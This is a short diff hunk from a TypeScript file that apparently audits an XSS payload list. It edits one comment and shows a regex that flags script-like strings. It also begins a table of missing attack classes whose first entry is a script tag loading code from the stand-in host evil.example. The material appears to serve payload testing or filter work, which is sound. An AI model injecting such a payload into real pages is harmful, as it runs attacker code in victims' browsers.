@@ -10,7 +10,7 @@ const known = (Array.isArray(listed) ? listed : []).filter(
   (text): text is string => typeof text === 'string' && /[<>]|script|&#|on\w+\s*=/i.test(text),
 );
 
-/** What the list lacks, by class. */
+/** Attacks missing in the list, by class. */
 const byClass: Readonly<Record<string, readonly string[]>> = {
   scripts: [
     '<script src="//evil.example/x.js"></script>',
